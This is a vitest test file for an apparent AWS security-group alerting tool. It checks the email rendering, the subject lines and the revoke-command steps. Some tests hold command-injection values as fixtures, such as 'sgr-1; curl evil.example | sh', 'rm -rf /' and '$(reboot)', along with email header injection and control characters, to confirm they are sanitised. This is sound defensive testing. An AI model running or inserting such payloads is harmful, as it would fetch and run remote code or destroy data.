import { emailSubject, type Finding, renderEmail, undoSteps } from '@podnet-guard/core';
import { describe, expect, it } from 'vitest';
import {
  dataStoreFinding,
  HOSTILE,
  hostileFinding,
  NODE_SG,
  RULE_ID,
  resolvedDataStoreFinding,
  TARGET_SG,
} from '../findings/finding-fixture.ts';

const REVOKE = `aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id ${TARGET_SG} --security-group-rule-ids ${RULE_ID}`;

describe('renderEmail', () => {
  it('leads with severity and title, then where', () => {
    const { body } = renderEmail(dataStoreFinding());
    const lines = body.split('\n');
    expect(lines[0]).toBe(`HIGH: Data store admits a node security group: ${TARGET_SG} admits ${NODE_SG}`);
    expect(lines[1]).toBe('Account 111122223333, region eu-west-1, cluster prod.');
  });

  it('says who did it, from where and when', () => {
    const { body } = renderEmail(dataStoreFinding());
    expect(body).toContain(
      [
        'Who did it',
        '  Event: AuthorizeSecurityGroupIngress, id 6f1c2a47-0d9e-4b8a-9f3e-1c2d3e4f5a6b',
        '  Actor: arn:aws:sts::111122223333:assumed-role/PlatformAdmin/alice@example.com',
        '  Source IP: 203.0.113.10',
        '  Time: 2026-11-02T09:41:07Z',
      ].join('\n'),
    );
  });

  it('says what it exposes: node groups, nodes, pod IPs as an upper bound, SGP pods apart, target services', () => {
    const { body } = renderEmail(dataStoreFinding());
    expect(body).toContain(
      [
        'What it exposes',
        '  Clusters: prod',
        '  Node groups: ng-general, ng-batch',
        '  Nodes: 3 (i-0aaaaaaaaaaaaaaa1, i-0aaaaaaaaaaaaaaa2, i-0aaaaaaaaaaaaaaa3)',
        '  Pod IPs: up to 27 (an upper bound: the VPC CNI keeps warm IPs that hold no pod yet)',
        '  Pods with their own security groups (SGP), not reached, counted apart: 2',
        '  Target services: RDS',
        `  Resources: ${TARGET_SG} (security-group), ${NODE_SG} (security-group)`,
      ].join('\n'),
    );
  });

  it('leaves out the SGP line when no pod has its own security group', () => {
    const finding = dataStoreFinding();
    finding.blastRadius!.sgpPods = 0;
    expect(renderEmail(finding).body).not.toContain('SGP');
  });

  it('gives the exact revoke command and the recommendation with links', () => {
    const { body } = renderEmail(dataStoreFinding());
    expect(body).toContain(
      [
        'How to undo it',
        `  Rule: tcp port 5432 from ${NODE_SG} [${RULE_ID}] "orders app to RDS"`,
        `  ${REVOKE}`,
        `  Why: admits node SG ${NODE_SG}`,
      ].join('\n'),
    );
    expect(body).toContain('What to do instead\n  Admit only the pods that need this data store');
    expect(body).toContain(
      '  - Security groups for pods: https://docs.aws.amazon.com/eks/latest/userguide/security-groups-for-pods.html',
    );
    expect(body.split('\n').at(-1)).toBe(
      `Finding ${dataStoreFinding().id} (node-sg-widening/node-sg-granted-to-data-store), first seen 2026-11-02T09:41:07Z, last seen 2026-11-02T09:41:07Z.`,
    );
  });

  it('says what resolved a resolved finding, and gives no undo or advice', () => {
    const { subject, body } = renderEmail(resolvedDataStoreFinding());
    expect(subject).toBe(`[RESOLVED] Data store admits a node security group: ${TARGET_SG}`);
    expect(body.split('\n').slice(0, 6)).toEqual([
      `RESOLVED: Data store admits a node security group: ${TARGET_SG}`,
      'Account 111122223333, region eu-west-1.',
      '',
      'What resolved it',
      `  RevokeSecurityGroupIngress on ${TARGET_SG} (orders-db) removed what caused node-sg-granted-to-data-store.`,
      '  RevokeSecurityGroupIngress by arn:aws:sts::111122223333:assumed-role/PlatformAdmin/bob@example.com from 198.51.100.7 at 2026-11-02T10:02:44Z',
    ]);
    expect(body).not.toContain('How to undo it');
    expect(body).not.toContain('What to do instead');
  });

  it('names a worsened finding as worse than before', () => {
    const { subject, body } = renderEmail(dataStoreFinding(), { transition: 'worsened' });
    expect(subject.startsWith('[HIGH, WORSE] ')).toBe(true);
    expect(body.startsWith('HIGH (worse than before): ')).toBe(true);
  });

  it('says what showed a scan finding instead of who did it', () => {
    const finding = dataStoreFinding();
    finding.evidence = { state: `${TARGET_SG} ingress rules (DescribeSecurityGroupRules)` };
    const { body } = renderEmail(finding);
    expect(body).toContain(`What showed it\n  Seen in: ${TARGET_SG} ingress rules (DescribeSecurityGroupRules)`);
    expect(body).not.toContain('Who did it');
  });

  it('cuts long lists with a count of what was left out', () => {
    const finding = dataStoreFinding();
    finding.resources = Array.from({ length: 50_000 }, (_, i) => ({
      type: 'network-interface' as const,
      id: `eni-${i.toString(16).padStart(17, '0')}`,
    }));
    finding.blastRadius!.nodes = 250;
    const { body } = renderEmail(finding);
    expect(body).toMatch(/Resources: (eni-[0-9a-f]{17} \(network-interface\), ){10}and 49990 more/);
    // nodeIds holds 3 of the 250 nodes: the count comes from `nodes`.
    expect(body).toContain('Nodes: 250 (i-0aaaaaaaaaaaaaaa1, i-0aaaaaaaaaaaaaaa2, i-0aaaaaaaaaaaaaaa3, and 247 more)');
    expect(body.length).toBeLessThan(20_000);
  });
});

describe('emailSubject', () => {
  it('is [SEVERITY] title (cluster)', () => {
    expect(emailSubject(dataStoreFinding({ title: `Data store admits a node security group: ${TARGET_SG}` }))).toBe(
      `[HIGH] Data store admits a node security group: ${TARGET_SG} (prod)`,
    );
  });

  it('shortens a long title and keeps the cluster, within 99 characters', () => {
    const subject = emailSubject(dataStoreFinding());
    expect(subject).toBe(
      '[HIGH] Data store admits a node security group: sg-0a1b2c3d4e5f60718 admits sg-0f9e8d7c6b... (prod)',
    );
    expect(subject.length).toBeLessThanOrEqual(99);
  });

  it('counts further clusters', () => {
    expect(emailSubject(dataStoreFinding({ title: 'T', clusters: ['prod', 'staging', 'dev'] }))).toBe(
      '[HIGH] T (prod +2)',
    );
  });

  it('is printable ASCII on one line even for hostile or non-ASCII text', () => {
    const finding = dataStoreFinding({
      title: `Café ☕ ${HOSTILE.ansi}\n${HOSTILE.newline}\u202e`,
      clusters: ['prød\r\nBcc: x'],
    });
    const subject = emailSubject(finding);
    expect(subject).toMatch(/^\[[A-Z][A-Z, ]+\] [\x20-\x7e]*$/);
    expect(subject.length).toBeLessThanOrEqual(99);
    expect(subject).toContain('Cafe');
  });

  it('never makes a web address by cutting: "www" before the dots stays defanged, and the cluster stays', () => {
    const title = `${'x '.repeat(38)}www.evil.example and more words after it`;
    const subject = emailSubject(dataStoreFinding({ title, clusters: ['prod', 'dev'] }));
    expect(subject).not.toMatch(/www\.|:\/\//i);
    expect(subject).toMatch(/www\[\.\]/);
    expect(subject.endsWith(' (prod +1)')).toBe(true);
    expect(subject.length).toBeLessThanOrEqual(99);
    // A title that says "www…" is spelt with ASCII dots, and defanged too.
    expect(emailSubject(dataStoreFinding({ title: 'see www\u2026' }))).not.toMatch(/www\./i);
  });

  it('stays within 99 characters however long the cluster name', () => {
    const subject = emailSubject(dataStoreFinding({ clusters: ['c'.repeat(300)] }));
    expect(subject.length).toBeLessThanOrEqual(99);
    expect(subject.startsWith('[HIGH] ')).toBe(true);
  });
});

describe('undoSteps', () => {
  it('takes rule ids from evidence.details.rules when remediation lists none', () => {
    const finding = dataStoreFinding();
    finding.remediation!.revoke = undefined;
    expect(undoSteps(finding)).toContain(REVOKE);
  });

  it('lists the rule ids first when no rule id is known', () => {
    const finding = dataStoreFinding();
    finding.remediation!.revoke = [{ protocol: '-1', peer: '0.0.0.0/0' }];
    finding.evidence.details = {};
    expect(undoSteps(finding)).toEqual([
      'Rule: all traffic from 0.0.0.0/0',
      `Find the rule ids with: aws ec2 describe-security-group-rules --region eu-west-1 --filters Name=group-id,Values=${TARGET_SG}`,
      `then: aws ec2 revoke-security-group-ingress --region eu-west-1 --group-id ${TARGET_SG} --security-group-rule-ids <sgr-...>`,
      `Why: admits node SG ${NODE_SG}`,
    ]);
  });

  it('never puts an id that is not an AWS id into a command', () => {
    const finding = dataStoreFinding({ region: 'eu-west-1; rm -rf /' });
    finding.remediation!.revoke = [{ ruleId: 'sgr-1; curl evil.example | sh', protocol: '6', fromPort: 22 }];
    finding.evidence.details = {};
    const steps = undoSteps(finding);
    const commands = steps.filter((line) => /\baws ec2 /.test(line));
    expect(commands.join('\n')).not.toMatch(/rm -rf|curl|evil/);
    expect(commands.every((line) => !line.includes('--region'))).toBe(true);
  });

  it('gives no command for a group id that is not an sg- id', () => {
    const finding = dataStoreFinding();
    finding.remediation!.target = { type: 'security-group', id: 'sg-x $(reboot)' };
    expect(undoSteps(finding).some((line) => line.includes('aws ec2'))).toBe(false);
  });

  it('describes other changes by what to set', () => {
    const finding: Finding = dataStoreFinding({
      remediation: {
        action: 'restrict-remote-access',
        target: { type: 'nodegroup', id: 'prod/ng-general', cluster: 'prod', nodeGroup: 'ng-general' },
        set: { remoteAccess: 'none' },
        reason: 'SSH remote access without source security groups is open to 0.0.0.0/0',
      },
    });
    expect(undoSteps(finding)).toEqual([
      'Change nodegroup prod/ng-general (restrict-remote-access)',
      'Set remoteAccess to "none"',
      'Why: SSH remote access without source security groups is open to 0.0.0.0/0',
    ]);
  });

  it('is empty for resolved findings and findings without remediation', () => {
    expect(undoSteps(resolvedDataStoreFinding())).toEqual([]);
    expect(undoSteps(dataStoreFinding({ remediation: undefined }))).toEqual([]);
  });
});

describe('renderEmail with hostile account text', () => {
  const { subject, body } = renderEmail(hostileFinding());

  it('holds no control character (no ANSI colour, no bidi override)', () => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: checking for them is the point.
    expect(body).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    // The ESC is shown, not dropped: a reader sees the text held one.
    expect(body).toContain('orders\\u001b[31m-db\\u001b[0m');
  });

  it('cannot forge a line: account text stays on the line it belongs to', () => {
    const forged = body.split('\n').filter((line) => line.trim().startsWith('aws '));
    expect(forged).toEqual([`  ${REVOKE}`]);
    expect(body.split('\n').filter((line) => line === 'How to undo it')).toHaveLength(1);
  });

  it('drops links that are not plain https URLs', () => {
    expect(body).not.toContain('https://evil.example|@here>');
  });

  it('keeps the subject one ASCII line', () => {
    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
  });
});
